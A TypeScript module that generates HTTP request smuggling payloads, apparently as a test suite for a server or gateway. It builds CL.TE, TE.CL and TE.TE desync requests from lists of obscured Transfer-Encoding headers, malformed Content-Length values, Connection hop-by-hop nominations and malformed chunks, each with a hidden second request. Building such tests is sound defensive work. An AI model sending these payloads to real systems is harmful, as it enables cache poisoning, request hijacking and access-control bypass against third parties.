/** A request, or what pretends to be one, with another one hidden in it. */
export interface SmugglingForm {
  readonly name: string
  readonly bytes: string
  /** How many requests it holds by right. */
  readonly requests: number
}

interface Parts {
  readonly base: string
  readonly key: string | undefined
  /** The hidden request. */
  readonly hidden: string
}

const chunk = (text: string): string => `${text.length.toString(16)}\r\n${text}\r\n`
const lastChunk = '0\r\n\r\n'

/** Ways to say `Transfer-Encoding: chunked` that one server may see and another overlook. */
const obscureCodings = [
  'Transfer-Encoding: xchunked',
  'Transfer-Encoding : chunked',
  'Transfer-Encoding:\tchunked',
  'Transfer-Encoding:  chunked ',
  'Transfer-Encoding: \x0bchunked',
  'Transfer-Encoding: chunked\x00',
  'Transfer-Encoding: "chunked"',
  "Transfer-Encoding: 'chunked'",
  'Transfer-Encoding: CHUNKED',
  'Transfer-Encoding: chunked, identity',
  'Transfer-Encoding: identity, chunked',
  'Transfer-Encoding: identity',
  'Transfer-Encoding: gzip, chunked',
  'Transfer-Encoding: chunked;q=1',
  'Transfer-Encoding:\r\n chunked',
  'Transfer-Encoding\r\n : chunked',
  'Transfer-Encoding: chunked\r\nTransfer-Encoding: chunked',
  'Transfer-Encoding: chunked\r\nTransfer-Encoding: identity',
  'Transfer-Encoding: identity\r\nTransfer-Encoding: chunked',
  'Transfer-Encoding: x\r\nTransfer-Encoding: chunked',
  'X: y\nTransfer-Encoding: chunked',
  'X: y\rTransfer-Encoding: chunked',
  ' Transfer-Encoding: chunked',
  '\tTransfer-Encoding: chunked',
  'X: y\r\n Transfer-Encoding: chunked',
  'transfer_encoding: chunked',
  'Content-Encoding: chunked',
]

/** Lengths that one server may read in another way than the next. */
const obscureLengths = [
  '+5',
  '-5',
  '0x5',
  '5 5',
  '5,5',
  '5, 6',
  '',
  '5;',
  '"5"',
  '5e0',
  '٥',
  '18446744073709551621',
]

/** What a `Connection` header may name to make the two sides of a gateway see different requests. */
const nominations = [
  'content-length',
  'transfer-encoding',
  'authorization',
  'host',
  'content-type',
  'expect',
  'x-forwarded-for',
  'bureau-relay',
  'close, content-length',
  'keep-alive, Content-Length, Transfer-Encoding',
  'upgrade',
  'te',
]

/** Chunks that one server may cut where another does not. */
const obscureChunks = (hidden: string): Readonly<Record<string, string>> => ({
  'a bare LF after the size': `5\nabcde\n0\n\n${hidden}`,
  'an extension': `5;a=b\r\nabcde\r\n${lastChunk}`,
  'an extension with a line feed': `5;a\nb\r\nabcde\r\n0\r\n\r\n${hidden}`,
  'a huge size': `ffffffffffffffff1\r\nabcde\r\n${lastChunk}${hidden}`,
  'a size of 2^64': `10000000000000000\r\n\r\n${hidden}`,
  'a negative size': `-5\r\nabcde\r\n${lastChunk}${hidden}`,
  'a size with 0x': `0x5\r\nabcde\r\n${lastChunk}${hidden}`,
  'a size with an underscore': `5_\r\nabcde\r\n${lastChunk}${hidden}`,
  'a space before the size': ` 5\r\nabcde\r\n${lastChunk}${hidden}`,
  'no line end after the data': `5\r\nabcdeXX0\r\n\r\n${hidden}`,
  'a header in the trailer': `0\r\nContent-Length: ${hidden.length}\r\n\r\n${hidden}`,
  'a key in the trailer': `0\r\nAuthorization: Bearer x\r\nTransfer-Encoding: chunked\r\n\r\n`,
  'a request as a chunk': `${chunk(hidden)}${lastChunk}`,
})

/** The known forms of request smuggling, each with the same request hidden in it. */
export function smugglingForms({ base, key, hidden }: Parts): readonly SmugglingForm[] {
  const forms: SmugglingForm[] = []
  const add = (name: string, method: string, fields: readonly string[], rest: string, version = '1.1') => {
    const path = `${base}/me?form=${forms.length}`
    const own = key === undefined ? [] : [`Authorization: Bearer ${key}`]
    const head = [`${method} ${path} HTTP/${version}`, 'Host: x', ...own, ...fields]
    forms.push({ name: `${method} ${name}`, bytes: `${head.join('\r\n')}\r\n\r\n${rest}`, requests: 1 })
  }
  const length = (text: string): string => `Content-Length: ${text.length}`
  const coding = 'Transfer-Encoding: chunked'

  for (const method of ['GET', 'HEAD', 'POST', 'PUT', 'PATCH', 'DELETE', 'OPTIONS']) {
    add('with a body by length', method, [length(hidden)], hidden)
    add('with a body in chunks', method, [coding], chunk(hidden) + lastChunk)
    add('CL.TE', method, [length(`${lastChunk}${hidden}`), coding], lastChunk + hidden)
    add('TE.CL', method, [coding, 'Content-Length: 4'], chunk(hidden) + lastChunk)
    add('two lengths', method, ['Content-Length: 0', length(hidden)], hidden)
    add('the same length twice', method, [length(hidden), length(hidden)], hidden)
    add('no length and a body', method, ['Content-Length: 0', 'X: y'], '')
    for (const named of nominations) {
      add(`Connection: ${named}, by length`, method, [`Connection: ${named}`, length(hidden)], hidden)
      add(
        `Connection: ${named}, in chunks`,
        method,
        [`Connection: ${named}`, coding],
        chunk(hidden) + lastChunk,
      )
    }
  }
  for (const method of ['GET', 'POST', 'DELETE']) {
    for (const field of obscureCodings) {
      add(`TE.TE ${JSON.stringify(field)}`, method, [field], chunk(hidden) + lastChunk)
      add(`CL and ${JSON.stringify(field)}`, method, [length(hidden), field], hidden)
    }
    for (const value of obscureLengths)
      add(`Content-Length: ${value}`, method, [`Content-Length: ${value}`], `abcde${hidden}`)
    for (const [name, chunks] of Object.entries(obscureChunks(hidden))) add(name, method, [coding], chunks)
    add('HTTP/1.0 in chunks', method, [coding], chunk(hidden) + lastChunk, '1.0')
    add('HTTP/1.0 by length, kept', method, ['Connection: keep-alive', length(hidden)], hidden, '1.0')
    add('two hosts', method, ['Host: y', length(hidden)], hidden)
    add('obs-fold of a length', method, ['X: y', ` ${length(hidden)}`], hidden)
    add('a bare LF between fields', method, [`X: y\n${length(hidden)}`], hidden)
    add('a NUL in a name', method, [`Content-Length\0: ${hidden.length}`], hidden)
    for (const expected of ['100-continue', '100-Continue', 'x', '100-continue, x']) {
      add(`Expect: ${expected}, by length`, method, [`Expect: ${expected}`, length(hidden)], hidden)
      add(
        `Expect: ${expected}, in chunks`,
        method,
        [`Expect: ${expected}`, coding],
        chunk(hidden) + lastChunk,
      )
    }
    for (const upgrade of ['websocket', 'h2c', 'HTTP/2.0', 'TLS/1.0']) {
      const fields = [
        'Connection: Upgrade, HTTP2-Settings',
        `Upgrade: ${upgrade}`,
        'HTTP2-Settings: AAMAAABk',
      ]
      add(`Upgrade: ${upgrade}, by length`, method, [...fields, length(hidden)], hidden)
      add(`Upgrade: ${upgrade}, in chunks`, method, [...fields, coding], chunk(hidden) + lastChunk)
    }
  }
  return forms
}
